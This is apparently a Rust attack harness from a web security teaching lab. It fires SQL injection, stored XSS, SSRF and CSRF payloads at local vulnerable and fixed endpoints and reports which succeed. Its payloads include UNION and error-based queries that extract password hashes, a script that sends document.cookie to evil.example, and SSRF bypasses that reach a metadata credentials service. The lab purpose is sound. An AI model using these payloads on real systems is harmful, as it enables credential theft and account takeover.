//! The attack script: fires payloads at each vulnerable endpoint and its fix, and reports,
//! with evidence, which got through.
//!
//! "Got through" is decided from what came back (rows that should be hidden, a staff password
//! hash, a script tag in the page as sent, the metadata service's secret, an email address the
//! victim never typed), not from status codes, which an endpoint can get right while leaking.
//! The demo prints the rows as a table; `tests/web.rs` and `tests/sqli.rs` assert on them.

use std::fmt;

use reqwest::header::{CONTENT_TYPE, COOKIE, ORIGIN, SET_COOKIE};
use thiserror::Error;
use url::form_urlencoded;

use crate::csrf::SESSION_COOKIE;
use crate::sqli::SearchResult;
use crate::ssrf::{CDN_HOST, InternalServices, PARTNER_HOST};

/// What an attack achieved against one endpoint.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    /// The attack worked.
    GotThrough,
    /// The attack failed.
    Blocked,
    /// Not an attack: a legitimate request, which must still work.
    Served,
    /// Could not be tried (PostgreSQL is not running).
    Skipped,
}

/// A verdict and the evidence for it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Outcome {
    pub verdict: Verdict,
    pub evidence: String,
}

impl Outcome {
    fn new(verdict: Verdict, evidence: impl Into<String>) -> Self {
        Outcome {
            verdict,
            evidence: evidence.into(),
        }
    }
}

impl fmt::Display for Outcome {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let word = match self.verdict {
            Verdict::GotThrough => "GOT THROUGH",
            Verdict::Blocked => "blocked",
            Verdict::Served => "served",
            Verdict::Skipped => "skipped",
        };
        write!(f, "{word}: {}", self.evidence)
    }
}

/// One line of the report: an attack and what it did to each side.
#[derive(Debug, Clone)]
pub struct AttackRow {
    pub class: &'static str,
    pub attack: &'static str,
    pub payload: String,
    pub vulnerable: Outcome,
    pub fixed: Outcome,
}

#[derive(Debug, Error)]
pub enum AttackError {
    #[error("a request of the attack script failed")]
    Http(#[from] reqwest::Error),
    #[error("the lab answered something the script did not expect: {0}")]
    Unexpected(String),
}

/// The attack script, aimed at a running lab.
#[derive(Debug, Clone)]
pub struct AttackScript {
    pub client: reqwest::Client,
    /// The lab, e.g. `http://127.0.0.1:41234`.
    pub base_url: String,
}

impl AttackScript {
    pub fn new(base_url: impl Into<String>) -> reqwest::Result<Self> {
        Ok(AttackScript {
            client: reqwest::Client::builder()
                .no_proxy()
                // The script looks at redirects itself, as a browser's history would.
                .redirect(reqwest::redirect::Policy::none())
                .build()?,
            base_url: base_url.into(),
        })
    }

    fn url(&self, path: &str) -> String {
        format!("{}{path}", self.base_url)
    }

    // ANCHOR: sql_payloads
    /// SQL injection against `/{side}/products?name=`.
    pub async fn sql_injection(&self) -> Result<Vec<AttackRow>, AttackError> {
        let cases: [(&str, &str); 4] = [
            ("(control) a real search", "Red mug"),
            ("always-true condition", "x' OR '1'='1"),
            (
                "UNION with another table",
                "x' UNION SELECT 0, email || ' ' || password_hash, 0 FROM staff_accounts --",
            ),
            (
                "error-based extraction",
                "x' AND 1 = CAST((SELECT min(password_hash) FROM staff_accounts) AS int) --",
            ),
        ];
        // ANCHOR_END: sql_payloads
        let mut rows = Vec::new();
        for (attack, payload) in cases {
            rows.push(AttackRow {
                class: "SQL injection",
                attack,
                payload: payload.to_owned(),
                vulnerable: self.search("vulnerable", payload).await?,
                fixed: self.search("fixed", payload).await?,
            });
        }
        Ok(rows)
    }

    async fn search(&self, side: &str, payload: &str) -> Result<Outcome, AttackError> {
        let response = self
            .client
            .get(self.url(&format!("/{side}/products")))
            .query(&[("name", payload)])
            .send()
            .await?;
        let status = response.status();
        let body = response.text().await?;
        if status == reqwest::StatusCode::SERVICE_UNAVAILABLE {
            return Ok(Outcome::new(Verdict::Skipped, "PostgreSQL not running"));
        }
        if body.contains("$argon2id$") {
            let place = if status.is_success() {
                "rows"
            } else {
                "error text"
            };
            return Ok(Outcome::new(
                Verdict::GotThrough,
                format!("password hash in the {place}"),
            ));
        }
        if !status.is_success() {
            return Ok(Outcome::new(Verdict::Blocked, format!("{status}")));
        }
        let result: SearchResult = serde_json::from_str(&body)
            .map_err(|e| AttackError::Unexpected(format!("search body: {e}")))?;
        // Products 4 and 5 are unpublished: no search may return them.
        let hidden = result.rows.iter().filter(|p| p.id >= 4).count();
        let evidence = match (result.rows.len(), hidden) {
            (1, 0) => "1 row".to_owned(),
            (n, 0) => format!("{n} rows"),
            (n, hidden) => format!("{n} rows, {hidden} unpublished"),
        };
        let verdict = if hidden > 0 {
            Verdict::GotThrough
        } else if payload.contains('\'') {
            Verdict::Blocked
        } else {
            Verdict::Served
        };
        Ok(Outcome::new(verdict, evidence))
    }

    // ANCHOR: xss_payloads
    /// Stored XSS: posts each payload as a comment, then reads both pages.
    pub async fn xss(&self) -> Result<Vec<AttackRow>, AttackError> {
        let cases: [(&str, &str, &str); 3] = [
            (
                "script element",
                "mallory",
                "<script>fetch('//evil.example/?c='+document.cookie)</script>",
            ),
            (
                "event handler",
                "mallory",
                "<img src=x onerror=alert(document.domain)>",
            ),
            (
                "attribute breakout",
                "\" onmouseover=\"alert(1)",
                "nice mugs",
            ),
        ];
        // ANCHOR_END: xss_payloads
        let mut rows = Vec::new();
        for (attack, author, text) in cases {
            let form = form_urlencoded::Serializer::new(String::new())
                .append_pair("author", author)
                .append_pair("text", text)
                .finish();
            let posted = self
                .client
                .post(self.url("/fixed/comments"))
                .header(CONTENT_TYPE, "application/x-www-form-urlencoded")
                .body(form)
                .send()
                .await?;
            if posted.status() != reqwest::StatusCode::SEE_OTHER {
                return Err(AttackError::Unexpected(format!(
                    "posting a comment answered {}",
                    posted.status()
                )));
            }
            // The payload is whichever field carries markup.
            let payload = if author.contains('"') { author } else { text };
            rows.push(AttackRow {
                class: "Stored XSS",
                attack,
                payload: payload.to_owned(),
                vulnerable: self.comment_page("vulnerable", payload).await?,
                fixed: self.comment_page("fixed", payload).await?,
            });
        }
        Ok(rows)
    }

    async fn comment_page(&self, side: &str, payload: &str) -> Result<Outcome, AttackError> {
        let response = self
            .client
            .get(self.url(&format!("/{side}/comments")))
            .send()
            .await?;
        let csp = response.headers().get("content-security-policy").is_some();
        let page = response.text().await?;
        let csp = if csp { "CSP on" } else { "no CSP" };
        Ok(if page.contains(payload) {
            Outcome::new(Verdict::GotThrough, format!("markup as sent, {csp}"))
        } else {
            Outcome::new(Verdict::Blocked, format!("escaped, {csp}"))
        })
    }

    // ANCHOR: ssrf_payloads
    /// SSRF: asks each fetcher for URLs that lead to the internal metadata service.
    pub async fn ssrf(&self, services: &InternalServices) -> Result<Vec<AttackRow>, AttackError> {
        let (meta, cdn) = (services.metadata.port(), services.cdn.port());
        let secret_url = format!("http://127.0.0.1:{meta}/latest/credentials");
        let cases = [
            (
                "(control) an allowed image",
                format!("http://{CDN_HOST}:{cdn}/logo.svg"),
            ),
            ("internal address", secret_url.clone()),
            (
                "allowed name as user info",
                format!("http://{CDN_HOST}:{cdn}@127.0.0.1:{meta}/latest/credentials"),
            ),
            (
                "open redirect on an allowed host",
                format!("http://{CDN_HOST}:{cdn}/go?to={secret_url}"),
            ),
            (
                "allowed name, hostile DNS",
                format!("http://{PARTNER_HOST}:{meta}/latest/credentials"),
            ),
        ];
        // ANCHOR_END: ssrf_payloads
        let mut rows = Vec::new();
        for (attack, url) in cases {
            rows.push(AttackRow {
                class: "SSRF",
                attack,
                vulnerable: self.fetch("vulnerable", &url, &services.secret).await?,
                fixed: self.fetch("fixed", &url, &services.secret).await?,
                payload: url,
            });
        }
        Ok(rows)
    }

    async fn fetch(&self, side: &str, target: &str, secret: &str) -> Result<Outcome, AttackError> {
        let response = self
            .client
            .get(self.url(&format!("/{side}/fetch")))
            .query(&[("url", target)])
            .send()
            .await?;
        let status = response.status();
        let body = response.text().await?;
        if body.contains(secret) {
            return Ok(Outcome::new(Verdict::GotThrough, "fetched the secret"));
        }
        if status.is_success() {
            return Ok(Outcome::new(Verdict::Served, "fetched the image"));
        }
        let detail = serde_json::from_str::<serde_json::Value>(&body)
            .ok()
            .and_then(|v| v["detail"].as_str().map(str::to_owned))
            .unwrap_or_else(|| status.to_string());
        Ok(Outcome::new(Verdict::Blocked, detail))
    }

    // ANCHOR: csrf_attacks
    /// CSRF: a signed-in victim's browser sends forged form posts for a page on evil.example.
    pub async fn csrf(&self) -> Result<Vec<AttackRow>, AttackError> {
        let own_origin = self.base_url.clone();
        let cases: [(&str, Forgery); 3] = [
            ("(control) the shop's own form", Forgery::OwnForm),
            (
                "form post from evil.example",
                Forgery::CrossSite {
                    origin: Some("https://evil.example"),
                },
            ),
            ("same, Origin stripped", Forgery::CrossSite { origin: None }),
        ];
        // ANCHOR_END: csrf_attacks
        let mut rows = Vec::new();
        for (attack, forgery) in cases {
            rows.push(AttackRow {
                class: "CSRF",
                attack,
                payload: "email=attacker@evil.example".to_owned(),
                vulnerable: self
                    .change_email("vulnerable", forgery, &own_origin)
                    .await?,
                fixed: self.change_email("fixed", forgery, &own_origin).await?,
            });
        }
        Ok(rows)
    }

    async fn change_email(
        &self,
        side: &str,
        forgery: Forgery,
        own_origin: &str,
    ) -> Result<Outcome, AttackError> {
        let cookie = self.sign_in("ada").await?;
        let (origin, token) = match forgery {
            Forgery::OwnForm => (Some(own_origin), self.form_token(&cookie).await?),
            // The attacker cannot read the victim's form, so it has no token to send.
            Forgery::CrossSite { origin } => (origin, String::new()),
        };
        let body = form_urlencoded::Serializer::new(String::new())
            .append_pair("email", "attacker@evil.example")
            .append_pair("csrf_token", &token)
            .finish();
        let mut request = self
            .client
            .post(self.url(&format!("/{side}/account/email")))
            .header(CONTENT_TYPE, "application/x-www-form-urlencoded")
            // What the victim's browser attaches by itself (an old browser, or a sibling
            // subdomain that counts as same-site: SameSite=Lax does not stop those).
            .header(COOKIE, &cookie)
            .body(body);
        if let Some(origin) = origin {
            request = request.header(ORIGIN, origin);
        }
        let status = request.send().await?.status();
        let email = self.email(&cookie).await?;
        let changed = email == "attacker@evil.example";
        Ok(match (forgery, changed) {
            (Forgery::OwnForm, true) => Outcome::new(Verdict::Served, "email changed"),
            (Forgery::OwnForm, false) => {
                Outcome::new(Verdict::Blocked, format!("{status}: the real form failed"))
            }
            (_, true) => Outcome::new(Verdict::GotThrough, "the attacker's email set"),
            (_, false) => Outcome::new(
                Verdict::Blocked,
                format!("{}, email unchanged", status.as_u16()),
            ),
        })
    }

    /// Signs in and returns the `Cookie` header a browser would send from then on.
    async fn sign_in(&self, user: &str) -> Result<String, AttackError> {
        let response = self
            .client
            .post(self.url("/session"))
            .header(CONTENT_TYPE, "application/x-www-form-urlencoded")
            .body(format!("user={user}"))
            .send()
            .await?;
        response
            .headers()
            .get(SET_COOKIE)
            .and_then(|v| v.to_str().ok())
            .and_then(|v| v.split(';').next())
            .filter(|pair| pair.starts_with(SESSION_COOKIE))
            .map(str::to_owned)
            .ok_or_else(|| AttackError::Unexpected("no session cookie".to_owned()))
    }

    /// The hidden token in the account page's form.
    async fn form_token(&self, cookie: &str) -> Result<String, AttackError> {
        let page = self.account_page(cookie).await?;
        between(&page, "name=\"csrf_token\" value=\"", "\"")
            .map(str::to_owned)
            .ok_or_else(|| AttackError::Unexpected("no token in the form".to_owned()))
    }

    async fn email(&self, cookie: &str) -> Result<String, AttackError> {
        let page = self.account_page(cookie).await?;
        between(&page, "<output id=\"email\">", "</output>")
            .map(str::to_owned)
            .ok_or_else(|| AttackError::Unexpected("no email on the account page".to_owned()))
    }

    async fn account_page(&self, cookie: &str) -> Result<String, AttackError> {
        Ok(self
            .client
            .get(self.url("/fixed/account"))
            .header(COOKIE, cookie)
            .send()
            .await?
            .text()
            .await?)
    }
}

#[derive(Debug, Clone, Copy)]
enum Forgery {
    OwnForm,
    CrossSite { origin: Option<&'static str> },
}

fn between<'a>(text: &'a str, start: &str, end: &str) -> Option<&'a str> {
    let from = text.find(start)? + start.len();
    let len = text[from..].find(end)?;
    Some(&text[from..from + len])
}
